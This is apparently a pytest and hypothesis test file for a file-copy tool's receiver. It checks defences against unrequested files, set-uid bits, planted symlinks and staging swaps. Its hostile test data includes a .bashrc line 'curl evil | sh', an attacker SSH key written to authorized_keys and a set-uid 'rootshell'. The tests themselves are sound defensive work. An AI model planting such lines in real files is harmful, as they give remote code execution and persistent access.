"""The receiving end of `slaveshell cp` (slaveshell.files.receiver.Receiver, the operator's and the worker's) against a
hostile sender and a hostile local user: only what was asked is taken (cpwire.Asked), never a set-uid or set-gid
bit, nothing below the named destination followed, and an existing destination the operator named written into
as scp does. The master holds the stream to the same `Asked` (master_side.copying.relay)."""

from __future__ import annotations

import hashlib
import os
import stat

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from slaveshell.files.receiver import Receiver, received_mode
from slaveshell.files.sender import TransferError
from slaveshell.vocabulary.copying import Asked, Entry, top_name
from slaveshell.vocabulary.protocol import ProtocolError


def feed(receiver: Receiver, entries: list[tuple[str, str, int, bytes]]) -> None:
    """Each (kind, path, mode, body) as a sender sends it, then the commit."""
    for kind, path, mode, body in entries:
        receiver.entry(Entry(kind, path, mode, len(body), 1_000_000.0))
        if kind == "file":
            if body:
                receiver.data(body)
            receiver.done_file(hashlib.sha256(body).hexdigest())
    receiver.commit()


def snapshot(top: str) -> dict[str, tuple[int, int, bytes | str]]:
    """Every path under `top` (symlinks not followed): its mode, inode and contents (a link's target)."""
    out: dict[str, tuple[int, int, bytes | str]] = {}
    for dirpath, dirnames, filenames in os.walk(top):
        for name in dirnames + filenames:
            path = os.path.join(dirpath, name)
            st_ = os.lstat(path)
            content: bytes | str = b""
            if stat.S_ISLNK(st_.st_mode):
                content = os.readlink(path)
            elif stat.S_ISREG(st_.st_mode):
                with open(path, "rb") as f:
                    content = f.read()
            out[os.path.relpath(path, top)] = (st_.st_mode, st_.st_ino, content)
    return out


HOSTILE_EXTRAS = [("file", ".bashrc", 0o644, b"curl evil | sh\n"), ("dir", ".ssh", 0o700, b""),
                  ("file", ".ssh/authorized_keys", 0o600, b"ssh-ed25519 AAAA attacker\n"),
                  ("file", "rootshell", 0o4755, b"\x7fELF")]


@pytest.mark.parametrize("first", [True, False])
def test_a_download_of_one_file_answered_with_dotfiles_and_a_setuid_file_keeps_nothing(tmp_path, first):
    """scp's CVE-2019-6111: asked for build.log, the worker answers build.log plus .bashrc, .ssh/authorized_keys
    and a 04755 rootshell. Refused at the first entry not asked for; nothing of it is kept (build.log included),
    and the operator's own dotfiles are untouched."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".bashrc").write_text("mine\n")
    (home / ".ssh" / "authorized_keys").write_text("my key\n")
    before = snapshot(str(home))
    build_log = [("file", "build.log", 0o644, b"ok\n")]
    stream = build_log + HOSTILE_EXTRAS if first else HOSTILE_EXTRAS + build_log
    receiver = Receiver(str(home), preserve=True, asked=Asked(["/var/builds/w1/build.log"], recursive=False))
    with pytest.raises(ProtocolError, match="not asked for"):
        feed(receiver, stream)
    receiver.abort()
    assert snapshot(str(home)) == before


def test_a_recursive_download_takes_only_the_asked_directory_and_strips_setid(tmp_path):
    dest = tmp_path / "dest"
    dest.mkdir()
    receiver = Receiver(str(dest), preserve=True, asked=Asked(["w1dir/logs/"], recursive=True))
    feed(receiver, [("dir", "logs", 0o2775, b""), ("file", "logs/rootshell", 0o6755, b"x"),
                    ("dir", "logs/tmp", 0o1777, b"")])
    assert stat.S_IMODE(os.lstat(dest / "logs").st_mode) == 0o775
    assert stat.S_IMODE(os.lstat(dest / "logs" / "rootshell").st_mode) == 0o755
    assert stat.S_IMODE(os.lstat(dest / "logs" / "tmp").st_mode) == 0o1777  # sticky is kept with -p, as cp -p
    receiver = Receiver(str(dest), preserve=True, asked=Asked(["logs"], recursive=True))
    with pytest.raises(ProtocolError, match="not asked for"):
        feed(receiver, [("dir", "logs", 0o755, b""), ("file", ".bashrc", 0o644, b"x")])
    receiver.abort()
    receiver = Receiver(str(dest), preserve=False, asked=Asked(["logs"], recursive=False))
    with pytest.raises(ProtocolError, match="-r was not asked"):
        feed(receiver, [("dir", "logs", 0o755, b"")])
    receiver.abort()
    assert staged(str(dest)) == []


def staged(directory: str) -> list[str]:
    return [n for n in os.listdir(directory) if n.startswith(".slaveshell-cp-")]


@pytest.mark.parametrize("kind", ["fifo", "socket", "chardev", "blockdev", "symlink", "link", "", "FILE"])
def test_no_entry_kind_but_a_directory_or_a_regular_file_is_taken(kind):
    with pytest.raises(ProtocolError):
        Entry.from_wire(kind, "f", 0o644, 0, 0.0)


@pytest.mark.parametrize("mode", [stat.S_IFIFO | 0o644, stat.S_IFCHR | 0o666, stat.S_IFSOCK | 0o777,
                                  stat.S_IFBLK | 0o660, stat.S_IFLNK | 0o777, -1, 0o10000])
def test_a_mode_carrying_a_file_type_is_refused(mode):
    with pytest.raises(ProtocolError):
        Entry.from_wire("file", "f", mode, 0, 0.0)


def test_the_top_level_names_a_request_asks_for():
    assert top_name("/var/log/build.log") == "build.log" and top_name("dir/") == "dir" and top_name("a/b/..") == "a"
    assert top_name(".") is None and top_name("/") is None and top_name("..") is None
    asked = Asked([".", "x"], recursive=True)  # "." is answered under the directory's own name: any one name
    asked.entry(Entry("dir", "x", 0o755))
    asked.entry(Entry("dir", "worker-dir", 0o755))
    with pytest.raises(ProtocolError, match="not asked for"):
        asked.entry(Entry("dir", "another", 0o755))
    with pytest.raises(ProtocolError, match="sent twice"):
        asked.entry(Entry("dir", "x", 0o755))


# -- the property: whatever entry list a hostile sender makes up ---------------------------------------------

NAMES = ["a", "a", "a", "b", "b", ".bashrc", ".ssh", "authorized_keys", "rootshell"]
entries_strategy = st.lists(
    st.tuples(st.sampled_from(["dir", "file"]),
              st.lists(st.sampled_from(NAMES), min_size=1, max_size=3).map("/".join),
              st.sampled_from([0o644, 0o755, 0o4755, 0o2755, 0o6777, 0o1777, 0o600, 0o000]),
              st.sampled_from([b"", b"x", b"body\n"])),
    max_size=8)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(entries=entries_strategy, sources=st.lists(st.sampled_from(["a", "dir/b", "."]), min_size=1, max_size=2,
                                                  unique=True),
       recursive=st.booleans(), preserve=st.booleans())
def test_whatever_a_sender_sends_only_what_was_asked_is_kept_and_never_setid(tmp_path_factory, entries, sources,
                                                                              recursive, preserve):
    dest = tmp_path_factory.mktemp("dest")
    (dest / ".bashrc").write_text("mine\n")
    before = snapshot(str(dest))
    asked = Asked(sources, recursive)
    master = Asked(sources, recursive)  # the master holds the stream to the same rule
    receiver = Receiver(str(dest), preserve=preserve, asked=asked)
    try:
        feed(receiver, entries)
    except (TransferError, ProtocolError):
        receiver.abort()
        assert snapshot(str(dest)) == before, "a refused stream left something"
        event("refused")
        return
    event("kept")
    for kind, path, _mode, _body in entries:
        master.entry(Entry(kind, path, 0o644, 0))  # the master took it all too
    after = snapshot(str(dest))
    names = {n for n in (top_name(s) for s in sources) if n is not None}
    unnamed = sum(1 for s in sources if top_name(s) is None)
    new_tops = {p.split("/")[0] for p in after} - {p.split("/")[0] for p in before}
    assert len(new_tops - names) <= unnamed
    assert (before[".bashrc"] == after[".bashrc"]) or ".bashrc" in names or unnamed
    for path, (mode, _ino, _content) in after.items():
        assert stat.S_ISDIR(mode) or stat.S_ISREG(mode), path
        assert not mode & (stat.S_ISUID | stat.S_ISGID), path
        if not recursive:
            assert "/" not in path or path in before
    assert staged(str(dest)) == []


def test_received_modes_never_keep_setid():
    for mode in range(0o10000):
        for preserve in (True, False):
            assert not received_mode(mode, preserve, 0o022) & 0o6000


# -- a hostile local user: symlinks planted in the destination ----------------------------------------------

def test_a_planted_symlink_where_a_received_directory_goes_is_refused_as_gnu_cp_does(tmp_path):
    """root runs `cp -r -p w1:crash shared/` where a local user planted shared/crash -> rootonly: refused
    (GNU cp -rp: cannot overwrite non-directory with directory); rootonly keeps its 0700 and stays empty."""
    shared, rootonly = tmp_path / "shared", tmp_path / "rootonly"
    shared.mkdir(mode=0o777)
    rootonly.mkdir(mode=0o700)
    os.chmod(rootonly, 0o700)
    (shared / "crash").symlink_to(rootonly)
    receiver = Receiver(str(shared) + "/", preserve=True, asked=Asked(["crash"], recursive=True))
    with pytest.raises(TransferError, match="crash: cannot overwrite non-directory with directory"):
        feed(receiver, [("dir", "crash", 0o1777, b""), ("file", "crash/core", 0o644, b"dump")])
    receiver.abort()
    assert stat.S_IMODE(os.stat(rootonly).st_mode) == 0o700 and os.listdir(rootonly) == []
    assert os.readlink(shared / "crash") == str(rootonly) and staged(str(shared)) == []


def test_symlinks_planted_inside_an_existing_directory_are_never_followed(tmp_path):
    shared, rootonly = tmp_path / "shared", tmp_path / "rootonly"
    (shared / "tree").mkdir(parents=True)
    rootonly.mkdir(mode=0o700)
    (rootonly / "secret").write_text("root's\n")
    (shared / "tree" / "sub").symlink_to(rootonly)
    (shared / "tree" / "f").symlink_to(rootonly / "secret")
    receiver = Receiver(str(shared), preserve=True, asked=Asked(["tree"], recursive=True))
    with pytest.raises(TransferError, match="sub: cannot overwrite non-directory with directory"):
        feed(receiver, [("dir", "tree", 0o777, b""), ("dir", "tree/sub", 0o777, b""),
                        ("file", "tree/sub/x", 0o644, b"x")])
    receiver.abort()
    assert os.listdir(rootonly) == ["secret"] and stat.S_IMODE(os.stat(rootonly).st_mode) == 0o700
    # A file where a symlink was planted replaces the link: the link's target is not written.
    receiver = Receiver(str(shared), preserve=False, asked=Asked(["tree"], recursive=True))
    feed(receiver, [("dir", "tree", 0o755, b""), ("file", "tree/f", 0o644, b"new\n")])
    assert (rootonly / "secret").read_text() == "root's\n"
    assert not os.path.islink(shared / "tree" / "f") and (shared / "tree" / "f").read_text() == "new\n"


def test_a_staged_directory_swapped_for_a_symlink_does_not_redirect_the_commit(tmp_path):
    """A local user who can write the destination directory renames the staging directory away and plants a
    symlink to a directory of root's in its place before the commit: the commit works on what was opened."""
    shared, rootonly = tmp_path / "shared", tmp_path / "rootonly"
    shared.mkdir()
    rootonly.mkdir(mode=0o700)
    receiver = Receiver(str(shared), preserve=True, asked=Asked(["tree"], recursive=True))
    for kind, path, mode, body in [("dir", "tree", 0o755, b""), ("file", "tree/f", 0o644, b"data")]:
        receiver.entry(Entry(kind, path, mode, len(body), 0.0))
        if body:
            receiver.data(body)
            receiver.done_file(hashlib.sha256(body).hexdigest())
    (stage,) = staged(str(shared))
    os.rename(shared / stage, tmp_path / "moved")
    (shared / stage).symlink_to(rootonly)
    receiver.commit()
    assert os.listdir(rootonly) == [] and stat.S_IMODE(os.stat(rootonly).st_mode) == 0o700
    assert (shared / "tree" / "f").read_bytes() == b"data"


# -- an existing destination the operator named (as scp) ----------------------------------------------------

def test_a_named_destination_that_is_a_symlink_to_a_file_is_written_through(tmp_path):
    (tmp_path / "target.txt").write_text("old\n")
    (tmp_path / "link").symlink_to(tmp_path / "target.txt")
    feed(Receiver(str(tmp_path / "link"), preserve=False, asked=Asked(["f.txt"], False)),
         [("file", "f.txt", 0o644, b"new\n")])
    assert os.path.islink(tmp_path / "link") and (tmp_path / "target.txt").read_text() == "new\n"
    assert staged(str(tmp_path)) == []


def test_a_named_existing_hard_linked_file_keeps_its_inode_and_mode(tmp_path):
    target = tmp_path / "f.txt"
    target.write_text("a much longer old content\n")
    os.chmod(target, 0o640)
    os.link(target, tmp_path / "other-name")
    inode = os.stat(target).st_ino
    feed(Receiver(str(target), preserve=False, asked=Asked(["src.txt"], False)), [("file", "src.txt", 0o755, b"new\n")])
    assert os.stat(target).st_ino == inode and stat.S_IMODE(os.stat(target).st_mode) == 0o640
    assert (tmp_path / "other-name").read_text() == "new\n"  # written in place: both names see it
    # With -p, the sender's mode (never set-uid) and time, on the same inode.
    feed(Receiver(str(target), preserve=True, asked=Asked(["src.txt"], False)), [("file", "src.txt", 0o4750, b"p\n")])
    assert os.stat(target).st_ino == inode and stat.S_IMODE(os.stat(target).st_mode) == 0o750
    assert os.stat(target).st_mtime == 1_000_000.0


def test_a_failed_copy_onto_a_named_existing_file_leaves_it_as_it_was(tmp_path):
    target = tmp_path / "f.txt"
    target.write_text("old\n")
    receiver = Receiver(str(target), preserve=False, asked=Asked(["src"], False))
    receiver.entry(Entry("file", "src", 0o644, 10))
    receiver.data(b"half")
    receiver.abort()
    assert target.read_text() == "old\n" and staged(str(tmp_path)) == []


def test_a_new_file_appears_only_whole_at_the_commit(tmp_path):
    receiver = Receiver(str(tmp_path / "new.txt"), preserve=False, asked=Asked(["src"], False))
    receiver.entry(Entry("file", "src", 0o644, 4))
    receiver.data(b"abcd")
    receiver.done_file(hashlib.sha256(b"abcd").hexdigest())
    assert not (tmp_path / "new.txt").exists()
    receiver.commit()
    assert (tmp_path / "new.txt").read_bytes() == b"abcd" and staged(str(tmp_path)) == []


def test_existing_files_inside_a_named_directory_are_replaced_not_written_into(tmp_path):
    """Below the named destination nothing is followed or written into: a hard link planted there is not a way
    to write another file (the new file replaces the name)."""
    victim = tmp_path / "victim"
    victim.write_text("keep\n")
    (tmp_path / "dir").mkdir()
    os.link(victim, tmp_path / "dir" / "f")
    feed(Receiver(str(tmp_path / "dir"), preserve=False, asked=Asked(["f"], False)), [("file", "f", 0o644, b"new\n")])
    assert victim.read_text() == "keep\n" and (tmp_path / "dir" / "f").read_text() == "new\n"


def test_a_named_destination_that_is_a_fifo_is_neither_written_nor_replaced(tmp_path):
    os.mkfifo(tmp_path / "fifo")
    with pytest.raises(TransferError, match="fifo: not a regular file"):
        Receiver(str(tmp_path / "fifo"), preserve=False, asked=Asked(["f"], False))
    (tmp_path / "link").symlink_to(tmp_path / "fifo")
    with pytest.raises(TransferError, match="link: not a regular file"):
        Receiver(str(tmp_path / "link"), preserve=False, asked=Asked(["f"], False))
    os.unlink(tmp_path / "link")
    assert stat.S_ISFIFO(os.lstat(tmp_path / "fifo").st_mode) and os.listdir(tmp_path) == ["fifo"]


# -- names that are not UTF-8: bytes, copied byte-exact and recorded escaped --------------------------------

@settings(max_examples=200, deadline=None)
@given(name=st.binary(min_size=1, max_size=12).filter(lambda b: b"/" not in b and b"\0" not in b
                                                       and b not in (b".", b"..")))
def test_any_posix_name_crosses_every_hop_and_comes_back_the_same_bytes(name):
    from slaveshell.plumbing.lean_calls import CODECS
    from slaveshell.vocabulary.copying import TransferRequest, check_relpath, path_bytes, path_text

    text = os.fsdecode(name)
    assert check_relpath(text) == text
    wire = CODECS["entry"].encode("file", text, 0o644, 1, 0.0)
    assert os.fsencode(CODECS["entry"].decode(wire)[1]) == name  # the lean call (worker <-> master)
    request = TransferRequest("down", "w1", (text,), text, cwd=text)
    back = TransferRequest.from_wire(request.to_pb())  # PB's open call: bytes for what is not UTF-8
    assert (back.sources, back.dest, back.cwd) == ((text,), text, text)
    assert isinstance(path_bytes(text), bytes) == (not _utf8(name))
    shown = path_text(text)
    shown.encode("utf-8")  # the index and the transcript take it
    assert shown == text if _utf8(name) else "\\x" in shown


def _utf8(name: bytes) -> bool:
    try:
        name.decode("utf-8")
    except UnicodeDecodeError:
        return False
    return True


@pytest.mark.parametrize("text", ["\ud800", "a\udfffb", "\udcc3\udca9"])  # no byte / UTF-8 spelled as escapes
def test_a_surrogate_that_stands_for_no_byte_is_refused_at_the_wire(text):
    from slaveshell.vocabulary.copying import TransferRequest, check_relpath

    with pytest.raises(ProtocolError):
        check_relpath(text)
    with pytest.raises(ProtocolError):
        TransferRequest("down", "w1", (text,), "d").validate()


def test_a_tree_with_a_name_that_is_not_utf8_arrives_byte_exact(tmp_path):
    dest = tmp_path / "dest"
    dest.mkdir()
    name = os.fsdecode(b"latin\xe9.txt")
    feed(Receiver(str(dest), preserve=False, asked=Asked(["tree"], True)),
         [("dir", "tree", 0o755, b""), ("file", f"tree/{name}", 0o644, b"x"), ("file", "tree/ok", 0o644, b"y")])
    assert sorted(os.listdir(os.fsencode(dest / "tree"))) == [b"latin\xe9.txt", b"ok"]


def test_a_deep_tree_holds_one_descriptor_and_too_deep_or_too_many_entries_are_refused(tmp_path):
    from slaveshell.vocabulary.copying import MAX_DEPTH, MAX_ENTRIES, StreamOrder, check_relpath

    dest = tmp_path / "dest"
    dest.mkdir()
    depth = 200
    entries = [("dir", "/".join(["t"] + ["d"] * i), 0o755, b"") for i in range(depth)]
    entries.append(("file", "/".join(["t"] + ["d"] * (depth - 1) + ["f"]), 0o644, b"deep"))
    before = len(os.listdir("/proc/self/fd"))
    receiver = Receiver(str(dest), preserve=True, asked=Asked(["t"], True))
    for kind, path, mode, body in entries:
        receiver.entry(Entry(kind, path, mode, len(body), 0.0))
        assert len(os.listdir("/proc/self/fd")) <= before + 4  # the destination, the staging, one directory, a file
        if body:
            receiver.data(body)
            receiver.done_file(hashlib.sha256(body).hexdigest())
    receiver.commit()
    assert len(os.listdir("/proc/self/fd")) == before and staged(str(dest)) == []
    with open(os.path.join(dest, *entries[-1][1].split("/")), "rb") as f:
        assert f.read() == b"deep"
    with pytest.raises(ProtocolError, match="deeper than"):
        check_relpath("/".join(["d"] * (MAX_DEPTH + 1)))
    order = StreamOrder()
    order.entries = MAX_ENTRIES
    with pytest.raises(ProtocolError, match="more than"):
        order.entry(Entry("dir", "x", 0o755))


def test_a_destination_written_as_a_directory_must_be_one(tmp_path):
    (tmp_path / "file").write_text("x")
    with pytest.raises(TransferError, match="new/: No such file or directory"):
        Receiver(str(tmp_path / "new") + "/", preserve=False, asked=Asked(["f"], False))
    with pytest.raises(TransferError, match="file/: not a directory"):
        Receiver(str(tmp_path / "file") + "/", preserve=False, asked=Asked(["f"], False))
    assert sorted(os.listdir(tmp_path)) == ["file"]


def test_a_named_dangling_symlink_is_not_written_through_as_gnu_cp_does(tmp_path):
    (tmp_path / "dangling").symlink_to(tmp_path / "nowhere")
    with pytest.raises(TransferError, match="dangling: not writing through dangling symlink"):
        Receiver(str(tmp_path / "dangling"), preserve=False, asked=Asked(["f"], False))
    assert sorted(os.listdir(tmp_path)) == ["dangling"]


def test_a_named_symlink_to_a_file_outside_the_allowed_directories_is_refused(tmp_path):
    """On the worker, the file a named symlink leads to must lie in allowed_dirs too (what was opened is
    checked, not its name)."""
    allowed, outside = tmp_path / "allowed", tmp_path / "outside"
    allowed.mkdir()
    outside.mkdir()
    (outside / "passwd").write_text("root:x:0:0\n")
    (allowed / "link").symlink_to(outside / "passwd")

    def check(real: str) -> None:
        if not (real == str(allowed) or real.startswith(str(allowed) + "/")):
            raise TransferError(f"{real}: outside the directories this worker allows")

    with pytest.raises(TransferError, match="outside the directories"):
        Receiver(str(allowed / "link"), preserve=False, check=check, asked=Asked(["f"], False))
    assert (outside / "passwd").read_text() == "root:x:0:0\n"
